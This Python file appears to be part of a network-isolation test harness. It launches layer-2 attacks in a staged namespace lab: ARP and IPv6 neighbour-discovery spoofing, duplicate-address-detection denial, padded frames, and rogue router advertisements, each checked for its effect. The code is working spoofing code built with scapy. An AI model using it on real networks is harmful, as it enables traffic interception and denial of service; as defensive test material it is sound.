"""Attacks by messages that every link needs: what travels with them, questions for others'
addresses, and what a namespace that no tenant claims says about tenants."""

import socket
import threading
import time

from assault import Ether, IPv6, Raw, attack
from link_layer import ALL, ALL_NODES, trailed
from places import command, socket_in
from scapy.layers.inet6 import (
    ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6ND_RA, ICMPv6NDOptDstLLAddr, ICMPv6NDOptPrefixInfo,
    ICMPv6NDOptSrcLLAddr)
from scapy.layers.l2 import ARP
from stage import BYSTANDER, FRIEND, MALLORY, STRAY, VICTIM

NEW, NEW_GROUP, NEW_GROUP_MAC = "fd79::77", "ff02::1:ff00:77", "33:33:ff:00:00:77"


# What travels with a message.

@attack("arp-padding", reasons=("arp",), fabrics=("bridged",), on_link=True)
def arp_padding(a):
    """A text behind ARP messages that are right, as far as a frame goes."""
    for operation in (1, 2):
        for count in (0, 1300):
            trailed(a, Ether(src=a.stage.mac[MALLORY], dst=a.stage.mac[VICTIM]) / ARP(
                op=operation, psrc=a.both(MALLORY)[0], hwsrc=a.stage.mac[MALLORY],
                pdst=a.both(VICTIM)[0], hwdst=a.stage.mac[VICTIM]) / Raw(b"\0" * count))


@attack("nd-options", reasons=("neighbourDiscovery",), fabrics=("bridged",), on_link=True)
def nd_options(a):
    """A text in unknown options of discovery, in a nonce's place, and behind the message."""
    own, target = a.both(MALLORY)[1], a.both(VICTIM)[1]
    for message in (ICMPv6ND_NS(tgt=target), ICMPv6ND_NA(tgt=own, S=1, O=1)):
        for kind in (200, 14, 1):
            text = a.token()
            text += b"." * ((6 - len(text)) % 8)
            option = bytes((kind, (len(text) + 2) // 8)) + text
            a.inject(bytes(Ether(src=a.stage.mac[MALLORY], dst=a.stage.mac[VICTIM]) / IPv6(
                src=own, dst=target, hlim=255) / message / Raw(option)))
        trailed(a, Ether(src=a.stage.mac[MALLORY], dst=a.stage.mac[VICTIM]) / IPv6(
            src=own, dst=target, hlim=255) / message)


# Questions whether an address is in use.

@attack("arp-probe", reasons=("arp",), fabrics=("bridged",), on_link=True)
def arp_probe(a):
    """Asks all whether victim's address is in use, as a host does that is about to take it."""
    speaker = bytes.fromhex(a.stage.mac[MALLORY].replace(":", "")), bytes(4)
    a.callback(a.stage.witness.speakers.pop, speaker)
    a.forge("0.0.0.0")
    for name in (VICTIM, BYSTANDER):
        a.token()
        a.stage.witness.speakers[speaker] = (b"attack", a.name.encode(), a.numbers["attack"])
        a.inject(bytes(Ether(src=a.stage.mac[MALLORY], dst=ALL) / ARP(
            op=1, psrc="0.0.0.0", hwsrc=a.stage.mac[MALLORY], pdst=a.both(name)[0])) + bytes(18))
        time.sleep(0.05)
    a.allowed()


@attack("dad-probe", reasons=("neighbourDiscovery",), fabrics=("bridged",), on_link=True)
def dad_probe(a):
    """Asks all the time whether an address is in use that bystander is about to have."""
    path = a.stage.path(BYSTANDER)
    for name, value, before in (("accept_dad", 1, 0), ("dad_transmits", 1, 1)):
        command(path, "sysctl", "-qw", f"net.ipv6.conf.eth0.{name}={value}")
        a.callback(command, path, "sysctl", "-qw", f"net.ipv6.conf.eth0.{name}={before}")
    frame = bytes(Ether(src=a.stage.mac[MALLORY], dst=NEW_GROUP_MAC) / IPv6(
        src="::", dst=NEW_GROUP, hlim=255) / ICMPv6ND_NS(tgt=NEW))
    stopping = threading.Event()

    def ask():
        while not stopping.wait(0.01):
            a.inject(frame)

    asker = threading.Thread(target=ask)
    asker.start()
    try:
        command(path, "ip", "address", "add", f"{NEW}/64", "dev", "eth0")
        a.callback(command, path, "ip", "address", "del", f"{NEW}/64", "dev", "eth0")
        state, deadline = "tentative", time.monotonic() + 5
        while "tentative" in state and "dadfailed" not in state and time.monotonic() < deadline:
            time.sleep(0.05)
            _, state = command(path, "ip", "-o", "address", "show", "dev", "eth0", "to", NEW)
    finally:
        stopping.set()
        asker.join()
    a.token()
    a.effect("bystander takes its new address for a duplicate", "dadfailed" in state)
    a.control("bystander tried", NEW in state)
    a.allowed()


# A namespace on the bridge that no tenant claims.

class Stray:
    """What it sends: each frame has a text behind it."""

    def __init__(self, a):
        self.a, self.mac = a, a.stage.mac[STRAY]
        self.link = a.enter_context(socket_in(
            a.stage.path(STRAY), socket.AF_PACKET, socket.SOCK_RAW, 0, ("eth0", 0)))

    def say(self, packet):
        self.link.send(bytes(packet) + b"\0" * max(0, 60 - len(packet)) + self.a.token())

    def truth(self, receiver):
        """Its own addresses: once the receiver knows them, it has heard all that came before."""
        v4, v6 = self.a.both(STRAY)
        target = self.a.both(receiver)
        self.link.send(bytes(Ether(src=self.mac, dst=self.a.stage.mac[receiver]) / ARP(
            op=1, psrc=v4, hwsrc=self.mac, pdst=target[0])) + bytes(18))
        self.link.send(bytes(Ether(src=self.mac, dst=self.a.stage.mac[receiver]) / IPv6(
            src=v6, dst=target[1], hlim=255) / ICMPv6ND_NS(tgt=target[1]) / ICMPv6NDOptSrcLLAddr(
                lladdr=self.mac)))
        self.a.control(f"{receiver} hears what it says of itself", self.a.stage.witness.until(
            lambda: all(self.a.neighbour(receiver, one) == self.mac for one in (v4, v6)), 2))


def know_host(a, name):
    """Gives a namespace the host's MAC: no rule lets it call the host."""
    for address in a.both("host"):
        command(a.stage.path(name), "ip", "neigh", "replace", address, "lladdr",
                a.stage.mac["host"], "nud", "stale", "dev", "eth0")


@attack("stray-arp", reasons=("arp", "identity"), fabrics=("bridged",), on_link=True, by=STRAY)
def stray_arp(a):
    """A namespace that no tenant claims tells friend that victim and the host are at its MAC."""
    stray = Stray(a)
    a.meet(FRIEND, VICTIM, 5000)
    know_host(a, FRIEND)
    for name in (VICTIM, "host"):
        address = a.forge(a.both(name)[0])
        for operation, target in ((2, a.both(FRIEND)[0]), (1, a.both(FRIEND)[0]), (1, address)):
            stray.say(Ether(src=stray.mac, dst=a.stage.mac[FRIEND]) / ARP(
                op=operation, psrc=address, hwsrc=stray.mac, pdst=target,
                hwdst=a.stage.mac[FRIEND]))
    stray.truth(FRIEND)
    for name in (VICTIM, "host"):
        a.effect(f"friend believes that {name} is a stranger",
                 a.neighbour(FRIEND, a.both(name)[0]) == stray.mac)
    a.forget_neighbours()
    a.allowed()


@attack("stray-nd", reasons=("neighbourDiscovery", "identity"), fabrics=("bridged",),
        on_link=True, by=STRAY)
def stray_nd(a):
    """The same by neighbour discovery: advertisements, and questions in their names."""
    stray = Stray(a)
    a.meet(FRIEND, VICTIM, 5000)
    know_host(a, FRIEND)
    friend = a.both(FRIEND)[1]
    for name in (VICTIM, "host"):
        address = a.forge(a.both(name)[1])
        for source in (a.forge(a.both(STRAY)[1]), address):
            stray.say(Ether(src=stray.mac, dst=a.stage.mac[FRIEND]) / IPv6(
                src=source, dst=friend, hlim=255) / ICMPv6ND_NA(
                    tgt=address, S=1, O=1) / ICMPv6NDOptDstLLAddr(lladdr=stray.mac))
        stray.say(Ether(src=stray.mac, dst=a.stage.mac[FRIEND]) / IPv6(
            src=address, dst=friend, hlim=255) / ICMPv6ND_NS(tgt=friend) / ICMPv6NDOptSrcLLAddr(
                lladdr=stray.mac))
    stray.truth(FRIEND)
    for name in (VICTIM, "host"):
        a.effect(f"friend believes that {name} is a stranger",
                 a.neighbour(FRIEND, a.both(name)[1]) == stray.mac)
    a.forget_neighbours()
    a.allowed()


@attack("stray-router", reasons=("router",), fabrics=("bridged",), on_link=True, by=STRAY)
def stray_router(a):
    """It advertises itself as the router of a prefix."""
    stray, source = Stray(a), a.forge(a.stage.local[STRAY])
    for name, target, mac in ((None, "ff02::1", ALL_NODES),
                              (VICTIM, a.both(VICTIM)[1], a.stage.mac[VICTIM])):
        stray.say(Ether(src=stray.mac, dst=mac) / IPv6(
            src=source, dst=target, hlim=255) / ICMPv6ND_RA(
                routerlifetime=20, prf=1) / ICMPv6NDOptPrefixInfo(
                    prefix="2001:db8:bad::", prefixlen=64, validlifetime=20, preferredlifetime=20
                ) / ICMPv6NDOptSrcLLAddr(lladdr=stray.mac))
    time.sleep(0.1)
    for name in (VICTIM, FRIEND, BYSTANDER):
        place = a.stage.path(name)
        _, routes = command(place, "ip", "-6", "route", "show", "proto", "ra")
        _, addresses = command(place, "ip", "-6", "address", "show", "dev", "eth0")
        a.effect(f"{name} routes through a stranger", source in routes)
        a.effect(f"{name} took an address from a stranger", "2001:db8:bad:" in addresses)
        if routes or "2001:db8:bad:" in addresses:
            command(place, "ip", "-6", "route", "flush", "proto", "ra")
            command(place, "ip", "-6", "address", "flush", "dev", "eth0", "dynamic")
    a.allowed()
